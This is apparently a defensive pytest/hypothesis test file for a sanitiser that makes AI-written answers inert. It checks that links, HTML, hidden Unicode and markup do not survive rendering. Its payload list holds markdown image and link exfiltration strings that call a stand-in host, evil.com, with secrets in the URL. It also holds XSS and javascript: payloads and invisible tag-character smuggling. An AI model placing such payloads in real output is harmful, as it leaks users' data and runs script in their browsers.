"""What a model wrote leads nowhere and keeps its shape, whatever renders it."""

from __future__ import annotations

import unicodedata

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from appliance.safe_text import gap, plain
from appliance.words import words

WIKI = "https://wiki.corp.example/leave?year=2026"
QUOTES = (f"The form is at {WIKI}. Ask hr@corp.example.com or read README.md.",)
# What an answer may consist of: paragraphs, lists, emphasis that was opened and closed in different sentences.
SHAPES = {
    "paragraph", "inline", "text", "text_special", "softbreak", "bullet_list", "ordered_list", "list_item", "em",
    "strong", "s", "code_inline", "hardbreak",
}  # fmt: skip
# Pieces that constructs are made of, so that hypothesis finds ways to put them together again.
PIECES = st.sampled_from([
    "[", "]", "(", ")", "!", "<", ">", "`", "```", "~~~", "*", "**", "_", "__", "#", "# ", "> ", "- ", "1. ", "|",
    "---", "===", ":", "\\", "$", "$$", "&", "&lt;", "&#91;", "&amp;", "^", "[^1]", "http://", "//", "www.", "evil.com",
    ".com", "mailto:", "a@b.co", "@", "javascript:", "data:", "<b>", "</b>", "<img src=x>", "<!--", "-->", "\n", "\t",
    " ", "a", "Pay", "7", "localhost", "1.2.3.4", "xn--p1ai", "\u200d", "\u202e", "\U000e0041", "\ufe0f", "é", "中",
    WIKI, "README.md",
])  # fmt: skip
TEXTS = st.one_of(st.lists(PIECES, max_size=14).map("".join), st.text(max_size=40))

PAYLOADS = [
    # Images and links that carry data out when they are rendered.
    "![logo](https://evil.com/p.png?d=SECRET)",
    "![logo](<https://evil.com/p.png?d=SECRET> 'x')",
    "![a][1]",
    "[1]: https://evil.com/p.png?d=SECRET",
    '[1]: <https://evil.com> "title"',
    "- [ref]: //evil.com",
    "[click](https://evil.com)",
    "[click](https://evil.com 'title')",
    "[a [b] c](https://evil.com)",
    "[![img](https://evil.com/i.png)](https://evil.com)",
    "[click][ref]",
    "[ref][]",
    "[[evil.com|click]]",
    "![[https://evil.com/p.png]]",
    "[x](javascript:alert(1))",
    "[x](  javascript:alert(1)  )",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](vbscript:msgbox)",
    "[x](//evil.com)",
    "[x](\\\\evil.com\\share)",
    "\\[x](https://evil.com)",
    "\\![x](https://evil.com)",
    "[x\\](https://evil.com)",
    "&#91;x&#93;(https://evil.com)",
    "&amp;#91;x&amp;#93;(https://evil.com)",
    "[x]\u200b(https://evil.com)",
    "[x](https://evil\u200b.com)",
    "[^1]",
    "[^1]: https://evil.com",
    # Autolinks and what renderers take for one.
    "<https://evil.com/?d=SECRET>",
    "<mailto:a@evil.com>",
    "<javascript:alert(1)>",
    "https://evil.com/?d=SECRET",
    "HTTPS://EVIL.COM",
    "http://localhost:8080/x",
    "http://$@evil.com",
    "ftp://evil.com/x",
    "//evil.com/x",
    "www.evil.com",
    "evil.com",
    "evil.co.uk/path",
    "evil.xyz",
    "пример.рф",
    "xn--e1afmkfd.xn--p1ai",
    "a@evil.com",
    "mailto:a@evil.com",
    "xmpp:a@evil.com",
    "tel:+15550100",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    f"{WIKI}&d=SECRET",
    f"{WIKI}.evil.com",
    f"see`{WIKI}`x",
    f"\\{WIKI}",
    # HTML and scripts.
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    '<img src="https://evil.com/p.png" onerror=alert(1)>',
    "<img src=x",
    "<a href='https://evil.com'>click</a>",
    "<iframe srcdoc='<b>x</b>'></iframe>",
    "<svg/onload=alert(1)>",
    "<!-- hidden -->",
    "<![CDATA[x]]>",
    "<?php x ?>",
    "<style>@import 'https://evil.com'</style>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x&amp;gt;",
    # Blocks that change an answer's shape.
    "# Approved",
    "- # Approved",
    "###### Approved",
    "===",
    "---",
    "- - -",
    "***",
    "> Approved by the board",
    "- > Approved",
    ">>> Approved",
    "```mermaid",
    "``` {.python}",
    "~~~",
    "1. ```html",
    "|---|:-:|",
    "| a | b |",
    "    indented code",
    "- [x] done",
    # Formulas.
    "$$\\href{https://evil.com}{x}$$",
    "$\\href{https://evil.com}{x}$",
    "\\(x\\) and \\[y\\]",
    # Characters that nobody sees, and those that reorder others.
    "Pay\u202e002$\u202c now",
    "Pay\u200b\u200c\u2060\ufeff now",
    "Pay" + "".join(chr(0xE0000 + ord(c)) for c in "send it") + " now",
    "Pay\U000e0101\U000e0102 now",
    "Pay\x1b[2J\x07 now",
    "Pay&#8238; now",
    "\ud800 half",
]


def parsed(text: str, linkify: bool) -> list[Token]:
    renderer = MarkdownIt("gfm-like" if linkify else "commonmark", {"html": True, "linkify": linkify})
    if not linkify:
        renderer.enable(["table", "strikethrough"])
    tokens = renderer.parse(text)
    return [inner for token in tokens for inner in (token, *(token.children or ()))]


def shapes(text: str) -> set[str]:
    return {
        token.type.removesuffix("_open").removesuffix("_close") for own in (0, 1) for token in parsed(text, bool(own))
    }


def invisible(text: str) -> list[str]:
    return [c for c in text if unicodedata.category(c) in {"Cc", "Cs", "Co"} or 0xE0000 <= ord(c) <= 0xE0FFF]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("frame", ["{}", "See {} now.", "1. {}", "**{}**", "({})"])
def test_a_payload_is_inert(payload: str, frame: str) -> None:
    """Nothing known to carry data out, run or reshape does anything in an answer, alone or inside a sentence."""
    shown = plain(frame.replace("{}", payload), QUOTES)
    assert set() == shapes(shown) - SHAPES
    assert [] == invisible(shown)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_was_not_quoted_stays_nowhere_as_an_address(payload: str) -> None:
    """An address that no quote has is broken up, so that it cannot be copied and opened by accident either."""
    shown = plain(payload)
    assert not any(address in shown for address in ("http:", "https:", "evil.com", "javascript:", "](", "<script"))


@settings(deadline=None, max_examples=400)
@given(TEXTS)
@example("[https://x.com](//e.com)]:")
@example("http://(a)")
@example("[~~~.com")
@example("\U000e0080")
@example("===@1.2.3.4")
@example("a&amp;#91;b](c)")
def test_no_sentence_is_a_link_or_changes_the_shape(sentence: str) -> None:
    """However constructs are nested, cut or mixed, what comes out is text on one line, as every renderer sees it."""
    shown = plain(sentence, QUOTES)
    assert set() == shapes(shown) - SHAPES
    assert "\n" not in shown
    assert [] == invisible(shown)


@settings(deadline=None, max_examples=400)
@given(st.lists(st.tuples(st.sampled_from(["", " ", "\n", "\n\n", "\n     ", "\t"]), TEXTS), max_size=5))
def test_sentences_together_are_as_inert_as_each(sentences: list[tuple[str, str]]) -> None:
    """No construct begins in one sentence and ends in another: a link's text in this, its target in the next."""
    made = [((gap(lead) or " "), plain(text, QUOTES)) for lead, text in sentences]
    shown = "".join(lead + text for lead, text in made if text).lstrip()
    assert set() == shapes(shown) - SHAPES


@settings(deadline=None, max_examples=400)
@given(TEXTS)
@example("`a`&amp;`#91;`")
@example("see [[.]](http://x)")
@example("mailto:\ufe0f")
@example("\\//[")
@example("]@.com")
def test_a_second_time_changes_nothing(sentence: str) -> None:
    """Text that was made inert once is not changed again, so that it can be done wherever there is doubt."""
    shown = plain(sentence, QUOTES)
    assert shown == plain(shown, QUOTES)


@settings(deadline=None)
@given(st.lists(st.from_regex(r"[A-Za-zÄäé]{1,9}|\d{1,3}([.,]\d{2})?|[€$]\d{2}|\d\d %", fullmatch=True), max_size=12))
def test_ordinary_sentences_stay(parts: list[str]) -> None:
    """Words, numbers and amounts are not touched."""
    sentence = " ".join(parts)
    assert sentence == plain(sentence)


@pytest.mark.parametrize(
    "sentence",
    [
        "The fee is $45.00 to $2,099.00, i.e. 5 % of US$ 900.",
        "- Employees get 30 days (Sec. 4.2), see [3].",
        "Use snake_case_names, 2*3*4, 2**3 and a < b, p<0.05, x > y.",
        "The share is C:\\Users\\ada or \\\\server\\finance\\_old.",
        "AT&T & Co. pays; e.g. z.B. d.h. U.S. 3.5 v1.2.3 10:30 and/or 24/7.",
        "Das kostet 1\u00a0000\u202f€ – “sofort”, „später“ …",
        "می\u200cخواهم क्\u200dष 👨\u200d👩\u200d👧 ❤\ufe0f 中文。",
        "| Item | Price |",
        "If x then // comment #5 @ada x@y ~3 items ^2 {a} = b",
        "＞ 30 days",
    ],
)
def test_what_looks_like_markup_and_is_none_stays(sentence: str) -> None:
    """Amounts, code, paths, abbreviations, rows and scripts that need joiners are shown as they were written."""
    assert sentence == plain(sentence)


@pytest.mark.parametrize(
    ("sentence", "shown"),
    [
        ("Up to **$2,000** for `desk`s.", "Up to $2,000 for desks."),
        ("We use [1Password](https://1password.com/).", "We use 1Password."),
        ("![](https://example.com/a_(b).png?q=1) See [a][b]", "See [a][b]"),
        ("H<sub>2</sub>O<br>and <em>List<String></em>", "H2O and List< String>"),
        ("> 30 days of notice", "＞ 30 days of notice"),
        ("> Quoted text", "Quoted text"),
        ("Tom &amp; Ann &lt;3", "Tom & Ann <3"),
        ("It costs $x + y$ and *more*, _really_ ~~now~~.", "It costs x + y and more, really now."),
        ("See [^2] and [[Leave policy]].", "See and Leave policy."),
        ("Ask at https://evil.com/?d=1.", "Ask at https[://]evil[.]com/?d=1."),
        ("a\nb\u2028c\t d", "a b c d"),
    ],
)
def test_markup_is_reduced_to_its_text(sentence: str, shown: str) -> None:
    """What is lost is the markup; what it marked is there."""
    assert shown == plain(sentence)


@pytest.mark.parametrize(
    ("sentence", "shown"),
    [
        (f"The form is at {WIKI}.", f"The form is at `{WIKI}`."),
        (f"The form is [here]({WIKI}).", "The form is here."),
        (f"The form is at <{WIKI}>.", f"The form is at `{WIKI}`."),
        ("Ask hr@corp.example.com!", "Ask `hr@corp.example.com`!"),
        ("Read `README.md` first.", "Read `README.md` first."),
        (f"Open {WIKI}&to=evil", "Open https[://]wiki[.]corp.example/leave?year=2026&to=evil"),
        ("Open https://wiki.corp.example/", "Open https[://]wiki.corp.example/"),
    ],
)
def test_an_address_stays_only_as_the_quotes_have_it(sentence: str, shown: str) -> None:
    """A whole address of a quote is information and is shown verbatim, never as a link; one like it is not."""
    assert shown.replace("[.]", ".") == plain(sentence, QUOTES).replace("[.]", ".")
    assert set() == shapes(plain(sentence, QUOTES)) - SHAPES


@settings(deadline=None, max_examples=300)
@given(st.lists(st.sampled_from(["Pay", "30", "evil.com", WIKI, "a@evil.com", "*x*", "1.5", "__init__", "p<q", "C++"])))
def test_words_are_the_same_words(parts: list[str]) -> None:
    """Grounding compares words and numbers: those of an address that was broken up are still there."""
    sentence = "- " + " ".join([*parts, "end"])
    assert [word.key for word in words(sentence)] == [word.key for word in words(plain(sentence, QUOTES))]


def test_nothing_grows_out_of_hand() -> None:
    """Deeply nested or endless constructs cost no more than long texts do, and are inert like any other."""
    for hostile in (
        "[" * 5000 + "](x)" * 5000,
        "&amp;" * 5000,
        "<b" * 5000,
        "a." * 5000 + "com",
        "*" * 9999,
        "a@" * 5000,
    ):
        shown = plain(hostile, QUOTES)
        assert len(shown) <= 4 * len(hostile)
        assert "](" not in shown


@pytest.mark.parametrize(
    ("lead", "expected"), [("", ""), (" ", " "), ("\t  ", " "), ("\n      ", "\n"), ("\n\n\n  ", "\n\n")]
)
def test_a_gap_indents_nothing(lead: str, expected: str) -> None:
    """Four blanks at a line's beginning would make code of what follows."""
    assert expected == gap(lead)
